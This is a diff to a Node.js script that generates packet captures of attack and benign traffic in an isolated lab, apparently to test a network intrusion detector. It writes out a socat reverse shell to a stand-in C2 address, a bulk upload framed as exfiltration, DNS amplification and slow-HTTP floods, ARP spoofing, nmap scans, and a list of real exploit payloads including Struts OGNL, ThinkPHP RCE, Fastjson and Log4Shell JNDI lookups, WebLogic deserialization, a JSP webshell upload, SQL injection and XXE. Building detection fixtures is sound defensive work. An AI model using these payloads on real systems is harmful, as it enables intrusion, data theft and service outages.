@@ -15,8 +15,8 @@ const rules = join(dirname(fileURLToPath(import.meta.url)), '..', 'behaviour');
 const wanted = process.argv.slice(2);
 const work = mkdtempSync(join(tmpdir(), 'sw-make-'));
 const rig = new Rig();
-const C2 = '203.0.113.66', OTHER = ['198.51.100.20', '198.51.100.21', '192.0.2.80'], CLIENT = '10.42.3.57';
-const VICTIM = '10.42.1.10', VICTIMS = Array.from({ length: 8 }, (_, i) => `10.42.1.${10 + i}`);
+const C2 = '203.0.113.66', OTHER = ['203.0.113.20', '203.0.113.21', '192.0.2.80'], CLIENT = '10.42.3.57';
+const FAR = '198.51.100.30', VICTIM = '10.42.1.10', VICTIMS = Array.from({ length: 8 }, (_, i) => `10.42.1.${10 + i}`);
 const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/76.0.3809.132 Safari/537.36';
 
 async function make(file, body, filter = 'not arp', snap = 0) {
@@ -40,13 +40,14 @@ const beside = (...args) => void rig.attack(...args);
 const node = (script) => [process.execPath, '-e', script];
 
 try {
-  rig.open([C2, CLIENT, ...OTHER], VICTIMS);
+  rig.open([C2, CLIENT, ...OTHER, '198.51.100.250'], [...VICTIMS, FAR]);
   // A web server on both sides: pages, errors, ciphertext in answer to ciphertext.
   const web = `const h=require('http'),c=require('crypto');const k=Buffer.from('e45e329feb5d925b');
     const enc=(t)=>{const x=c.createCipheriv('aes-128-cbc',k,Buffer.alloc(16));return Buffer.concat([x.update(t),x.final()]).toString('base64')};
     const f=(q,r)=>{let n=[];q.on('data',d=>n.push(d));q.on('end',()=>{const u=q.url.split('?')[0];
       if(/shell\\.php$/.test(u))return r.end(enc('{"status":"success","msg":"'+'uid=33(www-data) '.repeat(8+n.length)+'"}'));
       if(/help\\.jsp$/.test(u)){const m=c.createHash('md5').update('passkey').digest('hex').toUpperCase();return r.end(m.slice(0,16)+enc('x'.repeat(300)+Math.random())+m.slice(16))}
+      if(/^\\/big/.test(u))return r.end('y'.repeat(400000));
       if(/^\\/(?:$|index|page|admin|images|api|img|login|a\\d)/.test(u)){r.setHeader('content-type','text/html');return r.end('<html><title>home</title>'+'x'.repeat(700)+'</html>')}
       r.statusCode=404;r.end('<html>not found</html>')})};
     for(const p of [80,8080])h.createServer({keepAliveTimeout:30000},f).listen(p)`;
@@ -126,20 +127,20 @@ try {
   // Shells and channels.
   const typed = ['id', 'hostname', 'uname -r', 'ls /usr', 'cat /etc/hostname', 'ls /etc | head -40', 'env | head -3', 'ps | head -5', 'df /', 'exit'];
   await make('interactive-outbound/socat-sh.pcap', async () => {
-    const listener = sh(`(sleep 1; ${typed.map((t) => `echo '${t}'; sleep 1`).join('; ')}) | timeout 14 ncat -lnp 9443 ${C2}`);
-    await sleep(400);
+    const listener = sh(`(sleep 2; ${typed.map((t) => `echo '${t}'; sleep 1`).join('; ')}) | timeout 16 ncat -ln ${C2} 9443`);
+    await sleep(1200);
     await victim('timeout', '14', 'unshare', '--uts', 'bash', '-c', `hostname web01; cd /var/tmp; env -i PATH=/usr/bin:/bin socat TCP:${C2}:9443 EXEC:/bin/sh,stderr`);
     return listener;
   });
   await make('interactive-outbound/miss-telemetry.pcap', async () => {
-    const listener = sh(`timeout 13 ncat -lnp 9001 ${OTHER[0]} > /dev/null`);
-    await sleep(400);
+    const listener = sh(`timeout 13 ncat -ln ${OTHER[0]} 9001 > /dev/null`);
+    await sleep(1200);
     await vsh(`(for i in $(seq 12); do echo "temperature=21.$i humidity=40 pressure=1013 door=closed fan=$i"; sleep 1; done) | timeout 13 ncat ${OTHER[0]} 9001`);
     return listener;
   });
   await make('interactive-outbound/miss-upload.pcap', async () => {
-    const listener = sh(`timeout 13 ncat -lnp 9002 ${OTHER[0]} > /dev/null`);
-    await sleep(400);
+    const listener = sh(`timeout 13 ncat -ln ${OTHER[0]} 9002 > /dev/null`);
+    await sleep(1200);
     await vsh(`(for i in $(seq 10); do head -c 40000 /dev/zero; sleep 1; done) | timeout 13 ncat ${OTHER[0]} 9002`);
     return listener;
   }, 'not arp', 100);
@@ -201,13 +202,73 @@ try {
   await make('icmp-flood/miss-ping.pcap', () => attack('ping', '-q', '-i', '0.2', '-c', '30', VICTIM), 'icmp', 74);
   rig.victim(...node(`const d=require('dgram').createSocket('udp4');d.on('message',(m,r)=>{const h=Buffer.alloc(12);m.copy(h,0,0,2);h.writeUInt16BE(0x8580,2);h.writeUInt16BE(1,4);h.writeUInt16BE(11,6);const q=m.subarray(12,m.length);const a=[];for(let i=0;i<11;i++){const t=Buffer.alloc(12+250);t.writeUInt16BE(0xc00c,0);t.writeUInt16BE(16,2);t.writeUInt16BE(1,4);t.writeUInt32BE(60,6);t.writeUInt16BE(250,10);t[12]=249;t.fill(118,13);a.push(t)}d.send(Buffer.concat([h,q,...a]),r.port,r.address)});d.bind(53,'${VICTIM}')`));
   await sleep(300);
-  await make('amplification/dns-any.pcap.gz', () => attack(...node(`const s=require('dgram').createSocket('udp4');let n=0;const q=Buffer.from('00010100000100000000000003616e79076578616d706c6503636f6d0000ff0001','hex');s.on('error',()=>{});const t=setInterval(()=>{for(let i=0;i<5;i++){q.writeUInt16BE(n++&65535,0);s.send(q,53,'${VICTIM}')}if(n>600){clearInterval(t);setTimeout(()=>process.exit(),300)}},20)`)), 'udp', 200);
+  await make('amplification/dns-any.pcap.gz', () => attack(...node(`const s=require('dgram').createSocket('udp4');let n=0;const q=Buffer.from('00010100000100000000000003616e79076578616d706c6503636f6d0000ff0001','hex');s.on('error',()=>{});const t=setInterval(()=>{for(let i=0;i<5;i++){q.writeUInt16BE(n++&65535,0);s.send(q,53,'${VICTIM}')}if(n>420){clearInterval(t);setTimeout(()=>process.exit(),300)}},20)`)), 'udp');
   await make('amplification/miss-resolver.pcap', () => dig(Array.from({ length: 20 }, () => 'big.example.com TXT'), '+notcp'), 'udp', 400);
-  const slow = (kind, ...more) => attack('slowhttptest', kind, '-c', '100', '-i', '3', '-r', '60', '-l', '13', '-p', '2', '-u', `http://${VICTIM}/index`, ...more);
+  const slow = (kind, ...more) => attack('slowhttptest', kind, '-c', '100', '-i', '3', '-r', '60', '-l', '13', '-p', '2', '-u', `http://${VICTIM}/${kind === '-X' ? 'big' : 'index'}`, ...more);
   await make('slow-http/slowhttptest-headers.pcap.gz', () => slow('-H'), 'port 80', 400);
   await make('slow-http/slowhttptest-body.pcap.gz', () => slow('-B', '-s', '8192', '-x', '10'), 'port 80', 400);
-  await make('slow-http/slowhttptest-read.pcap.gz', () => slow('-X', '-w', '10', '-y', '20', '-n', '5', '-z', '32', '-k', '3'), 'port 80', 400);
+  await make('slow-http/slowhttptest-read.pcap.gz', () => slow('-X', '-w', '10', '-y', '20', '-n', '5', '-z', '16', '-k', '3'), 'port 80', 400);
   await make('slow-http/miss-keepalive.pcap.gz', () => attack(...node(`const h=require('http');for(let i=0;i<60;i++){const a=new h.Agent({keepAlive:true,maxSockets:1});let n=0;const go=()=>h.get({host:'${VICTIM}',path:'/page'+i,agent:a},r=>{r.resume();r.on('end',()=>{if(++n<3)setTimeout(go,3000)})});setTimeout(go,i*10)}setTimeout(()=>process.exit(),11000)`)), 'port 80', 400);
+  const people = `const h=require('http'),W=[7,9,10,5,8,4,2,1,6,3,7,9,10,5,8,4,2];
+    const id=(i,bad)=>{const n='1101'+String(10+i%5).slice(-2)+String(1950+i%55)+String(1+i%12).padStart(2,'0')+String(1+i%28).padStart(2,'0')+String(100+i*7%900);let s=0;for(let k=0;k<17;k++)s+=n[k]*W[k];return n+'10X98765432'[(s+(bad?3:0))%11]};
+    h.createServer((q,r)=>{const p=new URL(q.url,'http://x');r.setHeader('content-type','application/json;charset=utf-8');const page=Number(p.searchParams.get('page')||0);
+      if(p.pathname==='/all')return r.end(JSON.stringify(Array.from({length:60},(_,i)=>({name:'张三',id:id(i),phone:'138'+String(12345678+i*7919).slice(0,8)}))));
+      if(p.pathname==='/page')return r.end(JSON.stringify(Array.from({length:8},(_,i)=>({name:'李四',id:id(page*8+i)}))));
+      r.end(JSON.stringify({phones:Array.from({length:60},(_,i)=>'1380013'+String(1000+i*37)),products:Array.from({length:80},(_,i)=>String(690123456789012345n+BigInt(i*1237))),wrong:Array.from({length:40},(_,i)=>id(i,true)),digest:'a3f5'.repeat(16),time:Array.from({length:40},(_,i)=>1569888000000+i*86400000)}))}).listen(8090,'${VICTIM}')`;
+  rig.victim(...node(people));
+  await sleep(400);
+  await make('personal-data-leak/id-list.pcap', () => attack('curl', '-sS', '-o', '/dev/null', `http://${VICTIM}:8090/all`));
+  await make('personal-data-leak/by-pages.pcap', () => attack('curl', '-sS', ...Array.from({ length: 30 }, (_, i) => ['-o', '/dev/null', `http://${VICTIM}:8090/page?page=${i}`]).flat()));
+  await make('personal-data-leak/miss-phone-list.pcap', () => attack('curl', '-sS', '-o', '/dev/null', `http://${VICTIM}:8090/phones`));
+
+  // Neighbours, fingerprints, zones, volume, lists, many attempts.
+  await make('arp-spoofing/arpspoof.pcap', async () => {
+    await vsh(`ping -c 2 -i 0.2 ${CLIENT}`);
+    // A second station on the wire, with a MAC address of its own.
+    await sh(`ip link add mv0 link eth0 type macvlan mode private; ip addr add 10.42.3.99/32 dev mv0; ip link set mv0 up; arping -q -c 1 -I mv0 -S 10.42.3.99 ${VICTIM} 2>/dev/null; timeout 9 arpspoof -i mv0 -t ${VICTIM} ${CLIENT}; ip link del mv0`);
+    return {};
+  }, 'arp');
+  await make('arp-spoofing/miss-resolution.pcap', () => vsh(`for i in 1 2 3 4 5; do ip neigh flush all; ping -c 1 -W 1 ${CLIENT}; ping -c 1 -W 1 ${C2}; sleep 0.3; done; arping -q -U -c 3 -I eth0 ${VICTIM}`), 'arp');
+  await make('os-fingerprint/nmap-o.pcap', () => attack('nmap', '-n', '-Pn', '-e', 'eth0', '-O', '--max-os-tries', '1', '-p', '80,8080,81,9999', VICTIM));
+  await make('os-fingerprint/miss-scan.pcap', () => attack('nmap', '-n', '-Pn', '-e', 'eth0', '-sS', '-T4', '--top-ports', '30', VICTIM));
+  await make('ack-scan/nmap-sa.pcap', () => attack('nmap', '-n', '-Pn', '-e', 'eth0', '-sA', '-T4', '--top-ports', '60', VICTIM));
+  await make('ack-scan/miss-midstream.pcap', () => attack('curl', '-sS', ...VICTIMS.flatMap((v) => ['-o', '/dev/null', `http://${v}/page`, '-o', '/dev/null', `http://${v}:8080/page`])), 'tcp[13] & 2 = 0');
+  await make('zone-crossing/crossing.pcap', () => attack('curl', '-sS', '-m', '3', '--interface', OTHER[2], '-o', '/dev/null', `http://${FAR}/page`));
+  await make('zone-crossing/miss-allowed.pcap', () => victim('curl', '-sS', '-m', '3', '--interface', FAR, '-o', '/dev/null', `http://${OTHER[2]}/page`));
+  execFileSync('dd', ['if=/dev/zero', `of=${join(work, 'large')}`, 'bs=1M', 'count=20', 'status=none']);
+  await make('exfiltration-volume/upload.pcap.gz', () => victim('curl', '-sS', '-m', '20', '-o', '/dev/null', '-T', join(work, 'large'), `http://${C2}/upload`), 'port 80', 66);
+  await make('exfiltration-volume/miss-download.pcap.gz', async () => {
+    await victim('curl', '-sS', '-m', '20', '-o', '/dev/null', '-Z', ...Array.from({ length: 20 }, () => ['-o', '/dev/null', `http://${C2}/big`]).flat());
+    return attack('curl', '-sS', '-m', '20', '--interface', CLIENT, '-o', '/dev/null', '-T', join(work, 'large'), `http://${VICTIM}/upload`);
+  }, 'port 80', 66);
+  await make('indicator-match/lookup.pcap', () => dig(['www.indicator-test.example', 'mail.example.com']), 'udp port 53');
+  await make('indicator-match/call.pcap', () => victim('curl', '-sS', '-m', '3', '-o', '/dev/null', 'http://198.51.100.250/page'));
+  await make('indicator-match/miss-lookup.pcap', async () => {
+    await dig(['www.indicator-test.example.org', 'mail.example.com']);
+    return victim('curl', '-sS', '-m', '3', '-o', '/dev/null', `http://${OTHER[0]}/page`);
+  }, 'udp port 53 or tcp port 80');
+  const proofs = [
+    ['-H', 'Content-Type: %{(#nike=\'multipart/form-data\').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):0).(#cmd=\'id\')}', '/a1'],
+    ['/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id'],
+    ['-d', '_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id', '/index.php?s=captcha'],
+    ['-d', '{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://192.0.2.99:1099/a","autoCommit":true}}', '/api/json'],
+    ['-d', '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><object class="java.lang.ProcessBuilder"></object></java></work:WorkContext></soapenv:Header></soapenv:Envelope>', '/wls-wsat/CoordinatorPortType'],
+    ['-d', '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><class><string>oracle.toplink.internal.sessions.UnitOfWorkChangeSet</string></class></work:WorkContext></soapenv:Header></soapenv:Envelope>', '/_async/AsyncResponseService'],
+    ['-X', 'PUT', '-d', '<%Runtime.getRuntime().exec(request.getParameter("c"));%>', '/a2.jsp/'],
+    ['-H', 'Accept-Charset: c3lzdGVtKCdpZCcpOw==', '-H', 'Accept-Encoding: gzip,deflate', '/index.php'],
+    ['-d', 'bsh.script=exec("id");', '/weaver/bsh.servlet.BshServlet'],
+    ['-d', 'DBSTEP V3.0     355             0               666             DBSTEP=OKMLlKlV', '/seeyon/htmlofficeservlet'],
+    ['/mailsms/s?func=ADMIN:appState&dumpConfig=/'],
+    ['-b', `rememberMe=${cipher(900).replaceAll('\n', '')}`, '/login'],
+    ['/a3?id=1%20union%20select%201,2,concat(user(),0x3a,version())--%20-'], ['/a4?file=../../../../../../etc/passwd'], ['/a5?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E'],
+    ['/a6?x=${jndi:ldap://192.0.2.99:1389/a}'], ['/a7?host=127.0.0.1;cat%20/etc/passwd'], ['-d', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', '/a8'],
+  ];
+  const tried = async (list) => {
+    for (const one of list) await attack('curl', '-sS', '-g', '--path-as-is', '-m', '3', '-A', BROWSER, '-o', '/dev/null', ...one.slice(0, -1), `http://${VICTIM}${one[one.length - 1]}`);
+    return {};
+  };
+  await make('many-attempts/payloads.pcap', () => tried(proofs));
+  await make('many-attempts/miss-two.pcap', () => tried(proofs.slice(0, 2)));
 } finally {
   rig.close();
   rmSync(work, { recursive: true, force: true });
